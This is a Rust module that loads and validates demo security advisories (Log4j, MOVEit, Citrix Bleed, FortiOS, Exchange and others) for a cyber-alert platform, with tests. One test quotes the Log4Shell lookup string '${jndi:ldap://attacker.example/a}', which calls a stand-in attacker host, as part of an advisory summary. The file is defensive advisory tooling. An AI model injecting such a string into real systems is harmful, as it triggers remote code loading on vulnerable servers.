//! What the demo advisories say, read from content files, and the check of those files for
//! `carecert content check`.
//!
//! Each demo advisory is one file, `content/advisories/<name>.toml`, built into the binary.
//! Its facts carry their provenance like every other piece of shipped content: the sources
//! it cites are `[[sources]]` with a `checked` date (`docs/CONTENT.md`), and the advisory's
//! references (what the pages and CSAF show) are made from the sources it cites.
//!
//! ```toml
//! title = "…"
//! severity = "critical"              # critical | high | medium | low, as the analyst form
//! severity_reason = """…"""
//! tlp = "CLEAR"                      # CLEAR | GREEN | AMBER | AMBER+STRICT | RED (TLP 2.0)
//! summary = """…"""
//! actively_exploited = true
//! in_kev = true                      # listed in the CISA KEV catalogue
//! audience = "all"                   # or a list of organisation types: ["nhs_trust", …]
//! acknowledge_within_hours = 48      # leave out when no acknowledgement is asked for
//! affected = """
//! Vendor | Product | >= 1.0, < 1.2 | cpe:2.3:a:vendor:product:*:*:*:*:*:*:*:*
//! """                                # one product a line, as typed into the analyst form
//! cves = """
//! CVE-2024-0001 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H
//! """                                # one CVE a line, as typed into the analyst form
//! remediation = ["…", "…"]           # steps, in order
//! workarounds = ["…"]                # optional: until the fix can be applied
//! references = ["vendor-bulletin"]   # ids of the sources below, in the order shown
//! withdrawn_reason = """…"""         # optional: why the demo withdraws it
//! revision_note = """…"""            # optional: what changed, in a file that revises another
//!
//! [[sources]]
//! id = "vendor-bulletin"
//! publisher = "Vendor"
//! title = "Security bulletin"        # shown as the reference "Vendor: Security bulletin"
//! url = "https://…"
//! checked = 2026-11-29
//! ```
//!
//! Prose fields may be wrapped anywhere: line breaks and runs of spaces inside a paragraph
//! read as one space, and a blank line starts a new paragraph. `affected` and `cves` are read
//! line by line by the analyst form's own parsers, and the whole advisory must pass the checks
//! the form applies before publication, so the demo content is checked, and its CVSS scores
//! worked out, exactly as an analyst's would be. Unknown fields, severities, TLP labels and
//! organisation types are mistakes, as are references to undeclared sources and sources
//! nothing refers to.

use std::{collections::HashSet, path::Path};

use rust_embed::RustEmbed;
use serde::Deserialize;
use time::macros::date;

use crate::{
    alerts::{
        kev::KevEntry,
        model::{AdvisoryContent, Audience, Reference, Severity, Tlp},
        rules::content::{self, LineError},
    },
    organisations::domain::OrgType,
    platform::provenance::{self, ContentReport, Finding, Source},
};

/// The advisory files, built into the binary.
#[derive(RustEmbed)]
#[folder = "content/advisories/"]
struct Builtin;

/// Where advisory files live under a content folder.
pub const FOLDER: &str = "advisories";

/// The files the demo story reads, by name.
pub const DEMO: [&str; 8] = [
    "openssl",
    "moveit",
    "log4j-first",
    "log4j-second",
    "citrix-bleed",
    "phishing",
    "fortios",
    "exchange",
];

/// The demo withdraws this advisory, so its file says why.
pub const WITHDRAWN: &str = "openssl";
/// The demo publishes this as a revision of `log4j-first`, so its file says what changed.
pub const REVISION: &str = "log4j-second";

/// An advisory file as authors write it.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct AdvisoryFile {
    title: String,
    severity: Severity,
    severity_reason: String,
    tlp: Tlp,
    summary: String,
    actively_exploited: bool,
    in_kev: bool,
    audience: AudienceField,
    acknowledge_within_hours: Option<u32>,
    #[serde(default)]
    affected: String,
    #[serde(default)]
    cves: String,
    remediation: Vec<String>,
    #[serde(default)]
    workarounds: Vec<String>,
    references: Vec<String>,
    withdrawn_reason: Option<String>,
    revision_note: Option<String>,
    #[serde(default)]
    sources: Vec<Source>,
}

/// `"all"`, or a list of organisation types. Read as text first so that an unknown word
/// is reported by name rather than as "did not match any variant".
#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum AudienceField {
    Word(String),
    Types(Vec<String>),
}

/// One demo advisory as read from its file.
#[derive(Debug, Clone)]
pub struct DemoAdvisory {
    pub content: AdvisoryContent,
    /// Why the demo withdraws it, for the one it withdraws.
    pub withdrawn_reason: Option<String>,
    /// What changed, for an advisory that revises another.
    pub revision_note: Option<String>,
    pub sources: Vec<Source>,
}

impl DemoAdvisory {
    /// What it holds, for the check's list: "1 affected product, 1 CVE, 5 sources".
    fn counts(&self) -> String {
        let count = |n: usize, what: &str| {
            if n == 1 {
                format!("1 {what}")
            } else {
                format!("{n} {what}s")
            }
        };
        let c = &self.content;
        format!(
            "{}, {}, {}",
            count(c.affected.len(), "affected product"),
            count(c.cves.len(), "CVE"),
            count(self.sources.len(), "source")
        )
    }
}

/// Prose as authors wrap it in the file: line breaks and runs of spaces inside a paragraph
/// become one space, and paragraphs are separated by one blank line, so the published text
/// does not depend on where the author's editor wrapped it.
fn prose(text: &str) -> String {
    let mut paragraphs = Vec::new();
    let mut current = String::new();
    for line in text.lines() {
        if line.trim().is_empty() {
            if !current.is_empty() {
                paragraphs.push(std::mem::take(&mut current));
            }
            continue;
        }
        for word in line.split_whitespace() {
            if !current.is_empty() {
                current.push(' ');
            }
            current.push_str(word);
        }
    }
    if !current.is_empty() {
        paragraphs.push(current);
    }
    paragraphs.join("\n\n")
}

fn audience(field: AudienceField, problems: &mut Vec<String>) -> Audience {
    match field {
        AudienceField::Word(word) if word == "all" => Audience::All,
        AudienceField::Word(word) => {
            problems.push(format!(
                "audience {word:?} is not known: write \"all\" or a list of organisation types"
            ));
            Audience::All
        }
        AudienceField::Types(words) => {
            let mut types = Vec::new();
            for word in words {
                match word.parse::<OrgType>() {
                    Ok(t) if OrgType::REGISTRABLE.contains(&t) => types.push(t),
                    _ => {
                        let known: Vec<&str> =
                            OrgType::REGISTRABLE.iter().map(|t| t.as_str()).collect();
                        problems.push(format!(
                            "audience type {word:?} is not one of {}",
                            known.join(", ")
                        ));
                    }
                }
            }
            Audience::Types(types)
        }
    }
}

fn lines<T>(
    field: &str,
    parsed: Result<Vec<T>, Vec<LineError>>,
    problems: &mut Vec<String>,
) -> Vec<T> {
    parsed.unwrap_or_else(|errors| {
        problems.extend(errors.iter().map(|e| format!("{field}: {e}")));
        vec![]
    })
}

/// The advisory's references, made from the sources it cites, in the order it cites them;
/// and the problems with the citations.
fn references(file: &AdvisoryFile, problems: &mut Vec<String>) -> Vec<Reference> {
    let (source_problems, declared) = provenance::problems(&file.sources);
    problems.extend(source_problems);
    let mut cited = HashSet::new();
    let mut out = Vec::new();
    for id in &file.references {
        if !cited.insert(id.as_str()) {
            problems.push(format!("references lists {id:?} twice"));
            continue;
        }
        match file.sources.iter().find(|s| &s.id == id) {
            Some(s) => out.push(Reference {
                url: s.url.clone(),
                title: format!("{}: {}", s.publisher, s.title),
            }),
            None => problems.push(format!(
                "references names {id:?}, which no [[sources]] entry declares"
            )),
        }
    }
    let mut unused: Vec<&String> = declared
        .iter()
        .filter(|id| !cited.contains(id.as_str()))
        .collect();
    unused.sort();
    for id in unused {
        problems.push(format!(
            "source {id:?} is declared but not in references: cite it or remove it"
        ));
    }
    out
}

/// Reads one advisory file, or every problem with it (each a sentence for the author).
pub fn parse(text: &str) -> Result<DemoAdvisory, Vec<String>> {
    let file: AdvisoryFile =
        toml::from_str(text).map_err(|e| vec![e.to_string().trim().replace('\n', " ")])?;
    let mut problems = Vec::new();
    let references = references(&file, &mut problems);
    let affected = lines(
        "affected",
        content::parse_affected(&file.affected),
        &mut problems,
    );
    let cves = lines("cves", content::parse_cves(&file.cves), &mut problems);
    let steps = |list: &[String]| list.iter().map(|s| prose(s)).collect();
    let advisory = AdvisoryContent {
        title: prose(&file.title),
        severity: file.severity,
        severity_reason: prose(&file.severity_reason),
        tlp: file.tlp,
        summary: prose(&file.summary),
        actively_exploited: file.actively_exploited,
        in_kev: file.in_kev,
        affected,
        cves,
        remediation: steps(&file.remediation),
        workarounds: steps(&file.workarounds),
        references,
        audience: audience(file.audience, &mut problems),
        ack_required: file.acknowledge_within_hours.is_some(),
        ack_hours: file.acknowledge_within_hours,
    };
    // The rules the analyst form applies before an advisory can be published.
    problems.extend(
        content::check(&advisory)
            .into_iter()
            .map(|(field, message)| format!("{field}: {message}")),
    );
    if !problems.is_empty() {
        return Err(problems);
    }
    Ok(DemoAdvisory {
        content: advisory,
        withdrawn_reason: file.withdrawn_reason.as_deref().map(prose),
        revision_note: file.revision_note.as_deref().map(prose),
        sources: file.sources,
    })
}

/// The built-in advisory file `<name>.toml`.
pub fn builtin(name: &str) -> anyhow::Result<DemoAdvisory> {
    let path = format!("{name}.toml");
    let file = Builtin::get(&path)
        .ok_or_else(|| anyhow::anyhow!("The demo advisory file {FOLDER}/{path} is missing"))?;
    let text = String::from_utf8_lossy(&file.data);
    parse(&text).map_err(|problems| {
        anyhow::anyhow!(
            "The demo advisory file {FOLDER}/{path} has mistakes: {}",
            problems.join("; ")
        )
    })
}

/// The content of the built-in advisory `<name>`.
pub fn content(name: &str) -> anyhow::Result<AdvisoryContent> {
    builtin(name).map(|a| a.content)
}

/// Checks the advisory files under `root` (`advisories/*.toml`) for `carecert content
/// check`: each reads as the demo would read it, and the files the demo story needs are
/// there and say what it needs of them.
pub fn check_folder(root: &Path) -> ContentReport {
    let mut report = ContentReport::default();
    let dir = root.join(FOLDER);
    let problem = |file: String, message: String| Finding { file, message };
    let entries = match std::fs::read_dir(&dir) {
        Ok(entries) => entries,
        Err(e) => {
            report.problems.push(problem(
                FOLDER.to_owned(),
                format!("cannot be read ({e}): the demo advisories live here"),
            ));
            return report;
        }
    };
    let mut names: Vec<String> = entries
        .filter_map(Result::ok)
        .filter_map(|e| {
            let name = e.file_name().to_string_lossy().into_owned();
            name.strip_suffix(".toml").map(str::to_owned)
        })
        .collect();
    names.sort();
    for name in DEMO {
        if !names.iter().any(|n| n == name) {
            report.problems.push(problem(
                format!("{FOLDER}/{name}.toml"),
                "is missing: the demo story reads it".to_owned(),
            ));
        }
    }
    for name in &names {
        let file = format!("{FOLDER}/{name}.toml");
        let text = match std::fs::read_to_string(dir.join(format!("{name}.toml"))) {
            Ok(text) => text,
            Err(e) => {
                report
                    .problems
                    .push(problem(file, format!("cannot be read: {e}")));
                continue;
            }
        };
        match parse(&text) {
            Ok(advisory) => {
                if name == WITHDRAWN && advisory.withdrawn_reason.is_none() {
                    report.problems.push(problem(
                        file.clone(),
                        "needs withdrawn_reason: the demo withdraws this advisory".to_owned(),
                    ));
                }
                if name == REVISION && advisory.revision_note.is_none() {
                    report.problems.push(problem(
                        file.clone(),
                        "needs revision_note: the demo publishes it as a revision".to_owned(),
                    ));
                }
                report
                    .passed
                    .push(format!("advisory {name} ({})", advisory.counts()));
                report
                    .sources
                    .extend(advisory.sources.into_iter().map(|s| (file.clone(), s)));
            }
            Err(problems) => report.problems.extend(
                problems
                    .into_iter()
                    .map(|message| problem(file.clone(), message)),
            ),
        }
    }
    report
}

/// A catalogue entry as the CISA KEV import reads it; the demo draft is made from it. Kept
/// here rather than in a content file: it stands for an imported entry, not authored text.
pub fn kev_pan_os() -> KevEntry {
    KevEntry {
        cve_id: "CVE-2024-3400".to_owned(),
        vendor: "Palo Alto Networks".to_owned(),
        product: "PAN-OS".to_owned(),
        name: "Command injection in the GlobalProtect feature".to_owned(),
        date_added: date!(2024 - 04 - 12),
        description: "A command injection flaw in the GlobalProtect feature of PAN-OS lets an \
            attacker who has not signed in run commands with root privileges on the firewall, \
            on the PAN-OS versions and configurations the vendor lists."
            .to_owned(),
        required_action: "Apply the vendor's fixes or mitigations, or stop using the product \
            if none are available."
            .to_owned(),
        due_date: Some(date!(2024 - 04 - 19)),
        ransomware: false,
        notes: vec!["https://security.paloaltonetworks.com/CVE-2024-3400".to_owned()],
        cwes: vec!["CWE-77".to_owned()],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alerts::{kev, rules::cvss};

    fn read(name: &str) -> AdvisoryContent {
        content(name).unwrap_or_else(|e| panic!("{e}"))
    }

    fn all() -> Vec<AdvisoryContent> {
        DEMO.iter().map(|name| read(name)).collect()
    }

    #[test]
    fn every_demo_advisory_is_complete_enough_to_publish() {
        for c in all() {
            assert_eq!(content::check(&c), vec![], "{}", c.title);
        }
        assert!(content::check(&kev::to_draft(&kev_pan_os())).is_empty());
    }

    #[test]
    fn cvss_scores_are_those_the_vendors_and_nvd_publish() {
        let score = |c: &AdvisoryContent, id: &str| {
            c.cves
                .iter()
                .find(|v| v.id == id)
                .and_then(|v| v.cvss_score)
                .unwrap_or_else(|| panic!("{id} has a score"))
        };
        let log4j = read("log4j-second");
        assert_eq!(score(&read("citrix-bleed"), "CVE-2023-4966"), 9.4);
        assert_eq!(score(&log4j, "CVE-2021-44228"), 10.0);
        assert_eq!(score(&log4j, "CVE-2021-45046"), 9.0);
        assert_eq!(score(&log4j, "CVE-2021-45105"), 5.9);
        assert_eq!(score(&log4j, "CVE-2021-44832"), 6.6);
        assert_eq!(score(&read("moveit"), "CVE-2023-34362"), 9.8);
        assert_eq!(score(&read("fortios"), "CVE-2024-21762"), 9.8);
        assert_eq!(score(&read("exchange"), "CVE-2024-21410"), 9.8);
        for c in all() {
            for v in &c.cves {
                let vector = v.cvss_vector.as_deref().expect("a vector");
                assert_eq!(cvss::base_score(vector).ok(), v.cvss_score, "{}", v.id);
            }
        }
    }

    #[test]
    fn the_revision_moves_the_affected_versions_to_the_later_fixes() {
        use crate::alerts::rules::versions::any_contains;
        let first = &read("log4j-first").affected[0].versions;
        let second = &read("log4j-second").affected[0].versions;
        for (version, before, after) in [
            ("2.14.1", true, true),
            ("2.16.0", false, true),
            ("2.12.2", true, true),
            ("2.12.4", true, false),
            ("2.17.1", false, false),
            ("1.2.17", false, false),
        ] {
            assert_eq!(any_contains(first, version), before, "{version}, first");
            assert_eq!(any_contains(second, version), after, "{version}, second");
        }
    }

    #[test]
    fn only_the_fortinet_advisory_is_amber_and_the_phishing_one_asks_for_no_deadline() {
        let amber: Vec<String> = all()
            .into_iter()
            .filter(|c| c.tlp == Tlp::Amber)
            .map(|c| c.title)
            .collect();
        assert_eq!(amber.len(), 1);
        assert!(amber[0].starts_with("Fortinet"));
        let p = read("phishing");
        assert!(p.cves.is_empty() && p.affected.is_empty() && !p.ack_required);
    }

    #[test]
    fn the_larger_organisations_get_the_fortinet_and_exchange_advisories() {
        let larger = Audience::Types(vec![
            OrgType::NhsTrust,
            OrgType::IntegratedCareBoard,
            OrgType::Other,
        ]);
        assert_eq!(read("fortios").audience, larger);
        assert_eq!(read("exchange").audience, larger);
        assert_eq!(read("citrix-bleed").audience, Audience::All);
    }

    #[test]
    fn references_are_the_cited_sources_in_order_as_publisher_and_title() {
        let phishing = read("phishing");
        let passwords = phishing
            .references
            .iter()
            .find(|r| {
                r.url == "https://www.ncsc.gov.uk/collection/passwords/updating-your-approach"
            })
            .expect("the NCSC password guidance");
        assert_eq!(
            passwords.title,
            "NCSC: Password policy: updating your approach"
        );
        let moveit = read("moveit");
        assert!(moveit.references[0].title.starts_with("Progress: "));
        assert_eq!(moveit.references.len(), 3);
    }

    #[test]
    fn wrapped_prose_reads_as_single_spaced_paragraphs() {
        assert_eq!(
            prose("  One line\n  wrapped   here.\n\n\nA second\nparagraph.\n"),
            "One line wrapped here.\n\nA second paragraph."
        );
        let summary = read("log4j-first").summary;
        assert!(
            !summary.contains('\n') && !summary.contains("  "),
            "{summary}"
        );
        assert!(summary.contains("${jndi:ldap://attacker.example/a}"));
    }

    #[test]
    fn the_corrected_facts_are_those_the_publishers_now_give() {
        let exchange = read("exchange");
        let all_text = |c: &AdvisoryContent| {
            [c.summary.clone(), c.severity_reason.clone()]
                .into_iter()
                .chain(c.remediation.iter().cloned())
                .chain(c.workarounds.iter().cloned())
                .collect::<Vec<_>>()
                .join(" ")
        };
        let text = all_text(&exchange);
        assert!(text.contains("14 October 2025"), "{text}");
        assert!(text.contains("Subscription Edition"), "{text}");
        assert!(text.contains("Extended Protection"), "{text}");

        let openssl = builtin("openssl").expect("openssl");
        let withdrawn = openssl.withdrawn_reason.expect("a reason");
        assert!(withdrawn.contains("3.5"), "{withdrawn}");
        assert!(
            !withdrawn.contains("upgrade OpenSSL 3.0 to 3.0.7"),
            "{withdrawn}"
        );
        assert!(
            !all_text(&openssl.content).contains("upgrade each of them to OpenSSL 3.0.7"),
            "the remediation no longer keeps people on 3.0"
        );
        assert!(builtin(REVISION).expect("revision").revision_note.is_some());
    }

    /// A folder holding the shipped files with `name` replaced by `text`.
    fn folder_with(name: &str, text: &str) -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("a temporary folder");
        let advisories = dir.path().join(FOLDER);
        std::fs::create_dir(&advisories).expect("the advisories folder");
        let shipped = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("content")
            .join(FOLDER);
        for other in DEMO {
            let file = format!("{other}.toml");
            std::fs::copy(shipped.join(&file), advisories.join(&file)).expect("copied");
        }
        std::fs::write(advisories.join(format!("{name}.toml")), text).expect("written");
        dir
    }

    fn shipped(name: &str) -> String {
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("content")
            .join(FOLDER)
            .join(format!("{name}.toml"));
        std::fs::read_to_string(path).expect("the shipped file")
    }

    #[test]
    fn the_shipped_folder_passes_with_a_date_on_every_source() {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("content");
        let report = check_folder(&root);
        assert_eq!(report.problems, vec![]);
        assert_eq!(report.passed.len(), DEMO.len());
        assert!(
            report
                .passed
                .iter()
                .any(|l| l.starts_with("advisory exchange (")),
            "{:?}",
            report.passed
        );
        assert!(report.sources.iter().all(|(_, s)| s.checked.is_some()));
        assert!(
            report
                .sources
                .iter()
                .any(|(file, _)| file == "advisories/exchange.toml")
        );
    }

    /// The problems the check reports for `name` with `text`, all of which name its file.
    fn problems_with(name: &str, text: &str) -> Vec<String> {
        let dir = folder_with(name, text);
        let report = check_folder(dir.path());
        let file = format!("advisories/{name}.toml");
        assert!(!report.problems.is_empty(), "{name} passed");
        for p in &report.problems {
            assert_eq!(p.file, file, "{p}");
        }
        report.problems.into_iter().map(|p| p.message).collect()
    }

    #[test]
    fn an_unknown_reference_id_is_reported_naming_the_file() {
        let text =
            shipped("moveit").replacen("references = [", "references = [\"no-such-source\", ", 1);
        let problems = problems_with("moveit", &text);
        assert!(
            problems.iter().any(|p| p.contains("\"no-such-source\"")),
            "{problems:?}"
        );
    }

    #[test]
    fn a_source_without_a_checked_date_is_reported_naming_the_file() {
        let text = shipped("phishing");
        let text: String = text
            .lines()
            .filter(|l| !l.starts_with("checked ="))
            .collect::<Vec<_>>()
            .join("\n");
        let problems = problems_with("phishing", &text);
        assert!(
            problems.iter().any(|p| p.contains("no checked date")),
            "{problems:?}"
        );
    }

    #[test]
    fn a_bad_affected_line_is_reported_naming_the_file() {
        let text = shipped("fortios").replacen(
            "Fortinet | FortiOS |",
            "Fortinet FortiOS without the bars\nFortinet | FortiOS |",
            1,
        );
        let problems = problems_with("fortios", &text);
        assert!(
            problems.iter().any(|p| p.starts_with("affected: line ")),
            "{problems:?}"
        );
    }

    #[test]
    fn unknown_fields_and_words_and_unused_sources_are_reported() {
        let text = shipped("citrix-bleed").replacen("tlp = \"CLEAR\"", "tlp = \"WHITE\"", 1);
        assert!(!problems_with("citrix-bleed", &text).is_empty());
        let text = format!("colour = \"red\"\n{}", shipped("citrix-bleed"));
        let problems = problems_with("citrix-bleed", &text);
        assert!(
            problems.iter().any(|p| p.contains("colour")),
            "{problems:?}"
        );
        let text = shipped("exchange").replacen(
            "audience = [\"nhs_trust\"",
            "audience = [\"hospital\"",
            1,
        );
        let problems = problems_with("exchange", &text);
        assert!(
            problems.iter().any(|p| p.contains("\"hospital\"")),
            "{problems:?}"
        );
        let text = format!(
            "{}\n[[sources]]\nid = \"spare\"\npublisher = \"NCSC\"\ntitle = \"Spare\"\n\
             url = \"https://www.ncsc.gov.uk/\"\nchecked = 2026-11-29\n",
            shipped("exchange")
        );
        let problems = problems_with("exchange", &text);
        assert!(
            problems
                .iter()
                .any(|p| p.contains("\"spare\" is declared but not")),
            "{problems:?}"
        );
    }

    #[test]
    fn a_missing_folder_or_demo_file_is_a_problem() {
        let empty = tempfile::tempdir().expect("a temporary folder");
        let report = check_folder(empty.path());
        assert_eq!(report.problems.len(), 1);
        assert_eq!(report.problems[0].file, "advisories");

        let dir = folder_with("openssl", &shipped("openssl"));
        std::fs::remove_file(dir.path().join(FOLDER).join("moveit.toml")).expect("removed");
        let report = check_folder(dir.path());
        assert_eq!(report.problems.len(), 1, "{:?}", report.problems);
        assert_eq!(report.problems[0].file, "advisories/moveit.toml");
    }

    #[test]
    fn the_files_the_demo_withdraws_and_revises_must_say_why() {
        for (name, field) in [(WITHDRAWN, "withdrawn_reason"), (REVISION, "revision_note")] {
            let text = shipped(name);
            let open = format!("{field} = \"\"\"");
            let start = text.find(&open).expect("the field");
            let body = start + open.len();
            let end = body + text[body..].find("\"\"\"\n").expect("its end") + 4;
            let without = format!("{}{}", &text[..start], &text[end..]);
            let problems = problems_with(name, &without);
            assert!(
                problems
                    .iter()
                    .any(|p| p.contains(&format!("needs {field}"))),
                "{problems:?}"
            );
        }
    }
}
